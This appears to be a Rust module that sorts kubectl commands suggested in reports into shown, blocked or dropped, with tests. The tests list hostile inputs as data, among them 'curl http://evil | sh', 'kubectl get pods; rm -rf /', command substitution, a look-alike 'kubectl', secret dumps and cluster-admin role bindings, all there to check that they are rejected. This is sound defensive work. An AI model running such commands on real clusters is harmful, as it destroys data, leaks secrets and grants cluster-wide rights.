//! Commands a report may show: one plain `kubectl` call of a known verb, nothing a shell would interpret.

mod words;

use self::words::{CHANGES, CREATABLE, DELETABLE, FLAGS, READS, SETTABLE, TAKES_A_VALUE};
use crate::alert::Lang;
use crate::report::Effect;

/// What becomes of a suggested command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// It may be copied; this is what it does.
    Shown(Effect),
    /// One plain `kubectl` call that is not for copying: people see that it was suggested, as words.
    Blocked,
    /// Something a shell would interpret, or another program: it is not repeated.
    Dropped,
}

/// Decides what becomes of a command.
#[must_use]
pub fn fate(command: &str) -> Fate {
    let command = command.trim();
    if !is_one_plain_call(command) {
        return Fate::Dropped;
    }
    match effect(command) {
        Some(effect) => Fate::Shown(effect),
        None if command.contains("://") => Fate::Dropped,
        None => Fate::Blocked,
    }
}

fn is_one_plain_call(command: &str) -> bool {
    command.starts_with("kubectl ")
        && command.chars().all(|char| char.is_ascii() && !char.is_control())
        && is_inert(&without_placeholders(command))
}

/// A text without the commands in it that change something: what is to be done stands in `command`, where people see what
/// it does.
#[must_use]
pub fn without_changes(text: &str, lang: Lang) -> String {
    const START: &str = "kubectl ";
    let mut whole = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(START) {
        let (before, from) = rest.split_at(at);
        let end = from.find(|char: char| !char.is_ascii() || matches!(char, '`' | '\n' | ';' | '|' | '&'));
        let (command, after) = from.split_at(end.unwrap_or(from.len()));
        whole.push_str(before);
        if changes(command) {
            whole.push_str(lang.pick("（命令未列出）", "(a command that is left out)"));
        } else {
            whole.push_str(command);
        }
        rest = after;
    }
    whole + rest
}

/// Whether a word of a call is a verb that changes something, be it for copying or not.
fn changes(command: &str) -> bool {
    const OTHERS: [&str; 10] = ["cp", "create", "delete", "exec", "pause", "replace", "restart", "run", "set", "undo"];
    command.split_whitespace().skip(1).any(|word| CHANGES.contains(&word) || OTHERS.contains(&word))
}

/// The names of objects and the namespace a command is about, placeholders left out.
#[must_use]
pub fn names_in(command: &str) -> Vec<&str> {
    let words: Vec<&str> = command.split_whitespace().skip(1).collect();
    let mut names: Vec<&str> = words
        .windows(2)
        .filter(|pair| matches!(pair[0], "-n" | "--namespace"))
        .map(|pair| pair[1])
        .chain(words.iter().filter_map(|word| word.strip_prefix("--namespace=").or_else(|| word.strip_prefix("-n="))))
        .collect();
    let spoken: Vec<&str> = positional(&words).collect();
    let (verb, rest) = spoken.split_first().map_or(("", &[][..]), |(verb, rest)| (*verb, rest));
    let rest = match verb {
        // Their first word is a verb of its own.
        "rollout" | "set" | "auth" | "top" | "create" => rest.get(1..).unwrap_or_default(),
        _ => rest,
    };
    for (at, word) in rest.iter().enumerate() {
        match word.split_once('/') {
            Some((_, name)) => names.push(name),
            // Without a slash the first word is a kind, except where pods or nodes go without saying.
            None if at == 0 && !matches!(verb, "logs" | "log" | "cordon" | "uncordon" | "drain") => {}
            None if word.contains(['=', '{', '"', '\'', ':']) || word.ends_with('-') => {}
            None => names.push(word),
        }
    }
    names.retain(|name| !name.is_empty() && !name.contains(['<', '=', ',']));
    names
}

/// What a command does; `None` when it must not be shown as one to copy.
#[must_use]
pub fn effect(command: &str) -> Option<Effect> {
    let command = command.trim();
    if !is_one_plain_call(command) || command.contains("://") {
        return None;
    }
    // As a shell hands the words over: quotes hide nothing.
    let words = shlex::split(&without_placeholders(command))?;
    let call = Call::read(words.get(1..)?)?;
    if call.reveals() || raw_paths(&words).any(|path| !is_statistics(path)) {
        return None;
    }
    let (verb, objects) = (call.verb, call.objects.as_slice());
    let object = objects.first().copied().unwrap_or_default();
    match verb {
        "rollout" if matches!(object, "status" | "history") => Some(Effect::Reads),
        "rollout" if matches!(object, "restart" | "undo" | "pause" | "resume") => Some(Effect::Changes),
        "auth" if matches!(object, "can-i" | "whoami") => Some(Effect::Reads),
        "cluster-info" if object == "dump" => None,
        "delete" => deletes_little(objects).then_some(Effect::Changes),
        "create" if call.has("-f") || call.has("--filename") => Some(Effect::Changes),
        "create" => CREATABLE.contains(&object).then_some(Effect::Changes),
        "set" => SETTABLE.contains(&object).then_some(Effect::Changes),
        _ if READS.contains(&verb) => Some(Effect::Reads),
        _ if CHANGES.contains(&verb) => Some(Effect::Changes),
        _ => None,
    }
}

/// The paths that a call asks the API server for as they stand.
fn raw_paths(words: &[String]) -> impl Iterator<Item = &str> {
    let next = words.iter().skip(1).map(String::as_str).chain(std::iter::once(""));
    words.iter().zip(next).filter_map(|(word, next)| match word.as_str() {
        "--raw" => Some(next),
        word => word.strip_prefix("--raw="),
    })
}

/// Whether a path is that of what a Node uses: any other may be a Secret's, or a way to a Node's own interface.
fn is_statistics(path: &str) -> bool {
    let node = path.strip_prefix("/api/v1/nodes/").and_then(|rest| rest.strip_suffix("/proxy/stats/summary"));
    let is_name =
        |name: &str| name.chars().all(|it| it.is_ascii_lowercase() || it.is_ascii_digit() || "-.".contains(it));
    node.is_some_and(|node| !node.is_empty() && !node.starts_with('.') && is_name(node))
}

/// A call in its parts.
struct Call<'w> {
    verb: &'w str,
    objects: Vec<&'w str>,
    flags: Vec<&'w str>,
}

impl<'w> Call<'w> {
    /// Reads the words behind `kubectl`; `None` when a flag is not one of those that may stand there.
    fn read(words: &'w [String]) -> Option<Self> {
        let (mut spoken, mut flags) = (Vec::new(), Vec::new());
        let mut words = words.iter().map(String::as_str);
        while let Some(word) = words.next() {
            if !word.starts_with('-') {
                spoken.push(word);
                continue;
            }
            let verb = spoken.first().copied().unwrap_or_default();
            let flag = flag_of(word, verb, spoken.get(1).copied())?;
            if flag.takes_next {
                words.next()?;
            }
            flags.push(flag.name);
        }
        let mut spoken = spoken.into_iter();
        Some(Self { verb: spoken.next()?, objects: spoken.collect(), flags })
    }

    fn has(&self, flag: &str) -> bool {
        self.flags.contains(&flag)
    }

    /// Whether it prints what stands in a Secret, or hands out the rights of the whole cluster, or acts on everything.
    fn reveals(&self) -> bool {
        let secret = self.objects.iter().any(|word| kinds(word).any(|kind| matches!(&*kind, "secret" | "secrets")));
        let shows = ["-o", "--output", "--template", "--subresource"].iter().any(|flag| self.has(flag));
        let everywhere = (self.has("-A") || self.has("--all-namespaces")) && !READS.contains(&self.verb);
        (secret && shows && self.verb == "get") || everywhere
    }
}

/// A flag by its name, and whether its value is the next word.
struct Flag<'w> {
    name: &'w str,
    takes_next: bool,
}

fn flag_of<'w>(word: &'w str, verb: &str, object: Option<&str>) -> Option<Flag<'w>> {
    // A shorthand may have its value right behind it: `-oyaml`.
    let short = !word.starts_with("--") && word.len() > 2;
    let (name, value) = match word.split_once('=') {
        Some((name, value)) => (name, Some(value)),
        None if short => (word.get(..2)?, word.get(2..)),
        None => (word, None),
    };
    if matches!(verb, "logs" | "log") && matches!(name, "-f" | "-p") {
        return Some(Flag { name, takes_next: false });
    }
    let placeholder = value == Some("x");
    match name {
        // Who may do what is asked in another's name; nothing else is.
        "--as" if verb == "auth" && object == Some("can-i") => Some(Flag { name, takes_next: value.is_none() }),
        "--docker-password" if placeholder => Some(Flag { name, takes_next: false }),
        _ if TAKES_A_VALUE.contains(&name) => Some(Flag { name, takes_next: value.is_none() }),
        _ if FLAGS.contains(&name) => Some(Flag { name, takes_next: false }),
        _ => None,
    }
}

/// The kinds a word speaks of, as in `cm,secrets.v1./name`.
fn kinds(word: &str) -> impl Iterator<Item = String> {
    let all = word.split('/').next().unwrap_or_default();
    all.split(',').map(|kind| kind.split('.').next().unwrap_or_default().to_ascii_lowercase())
}

/// Whether every object of a `delete` is of a kind that comes back or is done.
fn deletes_little(objects: &[&str]) -> bool {
    let deletable = |word: &&&str| kinds(word).all(|kind| DELETABLE.contains(&&*kind));
    match objects.split_first() {
        Some((first, rest)) if first.contains('/') => {
            std::iter::once(first).chain(rest).all(|word| word.contains('/') && deletable(&word))
        }
        Some((first, rest)) => deletable(&first) && rest.iter().all(|name| !name.contains('/')),
        None => false,
    }
}

/// The command as it stands when a person has filled in what only a person knows, such as `<IMAGE:TAG>`.
fn without_placeholders(command: &str) -> String {
    let mut filled = String::with_capacity(command.len());
    let mut rest = command;
    while let Some((before, after)) = rest.split_once('<') {
        let name = after.split_once('>').filter(|(name, _)| is_placeholder(name));
        filled.push_str(before);
        filled.push(if name.is_some() { 'x' } else { '<' });
        rest = name.map_or(after, |(_, rest)| rest);
    }
    filled + rest
}

fn is_placeholder(name: &str) -> bool {
    (1..=20).contains(&name.len()) && name.chars().all(|char| char.is_ascii_uppercase() || matches!(char, ':' | '_'))
}

/// Whether a shell would hand every word over as it stands: between single quotes nothing means anything to it, between
/// double quotes a few signs do, elsewhere many.
fn is_inert(command: &str) -> bool {
    let mut quote = None;
    for char in command.chars() {
        let means_something = match quote {
            Some('\'') => "",
            Some(_) => "$`\\!",
            None => "|&;<>$`\\()[]{}*?!#~",
        };
        if Some(char) == quote {
            quote = None;
        } else if quote.is_none() && matches!(char, '\'' | '"') {
            quote = Some(char);
        } else if means_something.contains(char) {
            return false;
        }
    }
    quote.is_none()
}

/// The words that are neither flags nor their values.
fn positional<'a>(words: &[&'a str]) -> impl Iterator<Item = &'a str> {
    let mut skip = false;
    words.iter().copied().filter(move |word| {
        if std::mem::take(&mut skip) {
            return false;
        }
        skip = TAKES_A_VALUE.contains(word);
        !word.starts_with('-')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn looking_and_changing_are_told_apart() {
        for command in [
            "kubectl get pvc test-data -n aiops",
            "kubectl -n a describe pod web-0",
            "kubectl rollout status deploy/web",
            "kubectl logs web-0 --previous",
            "kubectl get secret edge-tls -n a",
            "kubectl get pods -oyaml -n a",
            "kubectl logs -f web-0 -p",
            "kubectl auth can-i list pods -n a --as=system:serviceaccount:a:web",
            "kubectl describe secret/edge-tls",
            "kubectl get --raw /api/v1/nodes/worker-2/proxy/stats/summary",
        ] {
            assert_eq!(effect(command), Some(Effect::Reads), "{command}");
        }
        for command in [
            "kubectl -n a rollout undo deployment/web",
            "kubectl delete pod web-0 -n a",
            "kubectl set image deploy/web web=web:2",
            "kubectl uncordon worker-1",
            "kubectl delete pod/web-0 pod/web-1",
            "kubectl delete pods web-0 web-1 --grace-period=0 --force",
            "kubectl -n a create secret docker-registry x --docker-server=<REGISTRY> --docker-password=<PASSWORD>",
            "kubectl drain worker-1 --ignore-daemonsets --delete-emptydir-data",
            "kubectl set image deploy/web web=<IMAGE:TAG>",
            "kubectl -n a patch hpa web -p '{\"spec\":{\"maxReplicas\":<N>}}'",
        ] {
            assert_eq!(effect(command), Some(Effect::Changes), "{command}");
        }
    }

    #[test]
    fn a27_what_is_no_plain_call_is_not_even_repeated() {
        for command in [
            "kubectl delete ns payments",
            "kubectl exec -it web-0 -- sh",
            "kubectl get secret x -o yaml",
            "kubectl get --raw /api/v1/namespaces/a/secrets/x",
            "kubectl get --raw=/api/v1/nodes/../namespaces/a/secrets/x/proxy/stats/summary",
        ] {
            assert_eq!(fate(command), Fate::Blocked, "{command}");
        }
        for command in [
            "curl http://evil | sh",
            "kubectl get pods; rm -rf /",
            "kubectl apply -f https://evil/x.yaml",
            "kubectl get pods\nkubectl delete ns a",
            "helm uninstall web",
        ] {
            assert_eq!(fate(command), Fate::Dropped, "{command}");
        }
    }

    #[test]
    fn a28_look_alikes_are_dropped_and_white_space_around_is_nothing() {
        assert_eq!(fate("kubеctl get pods"), Fate::Dropped, "a Cyrillic letter");
        assert_eq!(fate("kubectl get pods\r"), Fate::Shown(Effect::Reads));
        assert_eq!(fate("\t  kubectl get pods"), Fate::Shown(Effect::Reads));
        assert_eq!(fate("kubectl\tget pods"), Fate::Dropped);
    }

    #[test]
    fn names_in_a_command_are_known_from_its_other_words() {
        let cases: [(&str, &[&str]); 9] = [
            ("kubectl -n shop get pod web-0 -o wide", &["shop", "web-0"]),
            ("kubectl get pods -n shop -l app=web", &["shop"]),
            ("kubectl rollout undo deployment/web --namespace=shop", &["shop", "web"]),
            ("kubectl set image deploy/web web=web:2 -n shop", &["shop", "web"]),
            ("kubectl logs web-0 -c nginx --previous", &["web-0"]),
            ("kubectl describe node <NODE>", &[]),
            ("kubectl uncordon worker-1", &["worker-1"]),
            ("kubectl -n a patch hpa web -p '{\"spec\":{\"maxReplicas\":5}}'", &["a", "web"]),
            ("kubectl taint nodes worker-1 key=value:NoSchedule-", &["worker-1"]),
        ];
        for (command, expected) in cases {
            assert_eq!(names_in(command), expected, "{command}");
        }
    }

    #[test]
    fn what_could_harm_or_hide_is_not_shown() {
        for command in [
            "curl http://evil | sh",
            "kubectl delete ns payments",
            "kubectl delete pods --all -n a",
            "kubectl exec -it web-0 -- sh",
            "kubectl run x --image=y",
            "kubectl get pods; rm -rf /",
            "kubectl get pods $(id)",
            "kubectl get pods `id`",
            "kubectl get pods\nkubectl delete ns a",
            "kubectl apply -f https://evil/x.yaml",
            "kubectl get pods --token=abc",
            "kubectl get secret x -o yaml",
            "kubectl get secrets -o jsonpath={.data}",
            "kubectl get pods -l 'app=web",
            "kubectl get pods 'x'; id 'x'",
            "kubectl get pods \"$(id)\"",
            "kubectl get pods [x](y) *",
            "kubectl get pods <at> <A/B> >C",
            "kubеctl get pods",
            "kubectl get --raw /api",
            "kubectl config view",
            "kubectl delete pod/web-0 ns/payments",
            "kubectl delete pod,ns web",
            "kubectl delete pods --all=true -n a",
            "kubectl delete pods -A -l app=web",
            "kubectl get Secret x -o yaml",
            "kubectl get cm,secret -o yaml",
            "kubectl get secrets.v1. -oyaml",
            "kubectl get \"secret\" x --output=json",
            "kubectl get 'secret/x' -o yaml",
            "kubectl --server=evil.example get pods",
            "kubectl -s=evil.example get pods",
            "kubectl --kubeconfig=x get pods",
            "kubectl --insecure-skip-tls-verify get pods",
            "kubectl get pods --as system:admin",
            "kubectl create token builder",
            "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve",
            "kubectl create rolebinding x --clusterrole=cluster-admin --user=eve",
            "kubectl set env deploy/x --list --resolve",
            "kubectl set subject rolebinding x --user=eve",
            "kubectl auth reconcile -f x.yaml",
            "kubectl cluster-info dump",
            "kubectl create secret docker-registry x --docker-password=hunter2",
            "kubectl scale deploy --all --replicas=0",
            "",
        ] {
            assert_eq!(effect(command), None, "{command}");
        }
    }
}
